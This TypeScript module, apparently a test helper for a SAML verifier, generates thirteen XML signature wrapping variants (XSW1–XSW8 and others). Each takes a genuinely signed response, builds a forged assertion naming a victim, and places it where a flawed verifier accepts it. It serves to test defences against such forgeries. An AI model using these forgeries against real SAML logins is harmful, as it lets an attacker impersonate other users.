// The known shapes of signature wrapping (Somorovsky and others, "On Breaking SAML", 2012): a signed document, forged.
import { findAssertion } from './identity-provider-saml.ts';

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const NAMESPACES =
  'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"';

interface Parts {
  /** The signed document. */
  xml: string;
  /** Its assertion. */
  signed: string;
  signature: string;
  /** The unsigned assertion of the attacker. */
  forged: string;
}

const appendToAssertion = (element: string, more: string): string =>
  element.replace(/(<\/saml:Assertion>)$/, () => `${more}</saml:Assertion>`);
const replaceSigned = ({ xml, signed }: Parts, instead: string): string =>
  xml.replace(signed, () => instead);
const appendToSignature = (signature: string, more: string): string =>
  signature.replace('</ds:Signature>', () => `${more}</ds:Signature>`);

/** Each takes a document with a signed assertion; the first two want the response signed. */
const SHAPES: Readonly<Record<string, (parts: Parts) => string>> = {
  'XSW1: the signed response in the signature of a forged one': ({
    xml,
    signed,
    signature,
    forged,
  }) => {
    const original = xml.replace(signature, '');
    const evil = xml.replace(signed, () => forged).replace(/ID="[^"]+"/, 'ID="_evil"');
    return evil.replace(signature, () => appendToSignature(signature, original));
  },
  'XSW2: the signed response beside its signature in a forged one': ({
    xml,
    signed,
    signature,
    forged,
  }) => {
    const original = xml.replace(signature, '');
    const evil = xml.replace(signed, () => forged).replace(/ID="[^"]+"/, 'ID="_evil"');
    return evil.replace(signature, () => original + signature);
  },
  'XSW3: a forged assertion before the signed one': (parts) =>
    replaceSigned(parts, parts.forged + parts.signed),
  'XSW4: the signed assertion in a forged one': (parts) =>
    replaceSigned(parts, appendToAssertion(parts.forged, parts.signed)),
  'XSW5: the signature moved to a forged assertion, the signed one behind': (parts) =>
    replaceSigned(
      parts,
      insertSignature(parts.forged, parts.signature) + parts.signed.replace(parts.signature, ''),
    ),
  'XSW6: the signed assertion in the signature that was moved to a forged one': (parts) =>
    replaceSigned(
      parts,
      insertSignature(
        parts.forged,
        appendToSignature(parts.signature, parts.signed.replace(parts.signature, '')),
      ),
    ),
  'XSW7: a forged assertion in an extension': (parts) =>
    replaceSigned(parts, `<samlp:Extensions>${parts.forged}</samlp:Extensions>${parts.signed}`),
  'XSW8: the signed assertion in an object of the signature of a forged one': (parts) =>
    replaceSigned(
      parts,
      insertSignature(
        parts.forged,
        appendToSignature(
          parts.signature,
          `<ds:Object>${parts.signed.replace(parts.signature, '')}</ds:Object>`,
        ),
      ),
    ),
  'the forged assertion in the advice of the signed one': (parts) =>
    replaceSigned(
      parts,
      appendToAssertion(parts.signed, `<saml:Advice>${parts.forged}</saml:Advice>`),
    ),
  'a forged assertion behind the signed one': (parts) =>
    replaceSigned(parts, parts.signed + parts.forged),
  'a forged assertion of the same identifier': (parts) =>
    replaceSigned(parts, parts.forged.replace('_forged', readId(parts.signed)) + parts.signed),
  'the signature moved to a forged assertion of the same identifier': (parts) =>
    replaceSigned(
      parts,
      insertSignature(parts.forged.replace('_forged', readId(parts.signed)), parts.signature),
    ),
  'a response around the response': ({ xml }) =>
    `<samlp:Response ${NAMESPACES} ID="_outer" Version="2.0">${xml}</samlp:Response>`,
};

export const wrappings = Object.keys(SHAPES);
const readId = (element: string): string => / ID="([^"]+)"/.exec(element)?.[1] ?? '';
const insertSignature = (element: string, signature: string): string =>
  element.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);

/** Wraps a signed document of `attacker` with a forged assertion about `victim`. */
export function wrapAssertion(
  shape: string,
  xml: string,
  { victim, attacker }: { victim: string; attacker: string },
): string {
  const [signed = ''] = findAssertion(xml);
  const forged = signed
    .replace(SIGNATURE, '')
    .replace(/ ID="[^"]+"/, ' ID="_forged"')
    .replaceAll(attacker, victim);
  const [signature = ''] = SIGNATURE.exec(xml) ?? [];
  return SHAPES[shape]?.({ xml, signed, signature, forged }) ?? '';
}
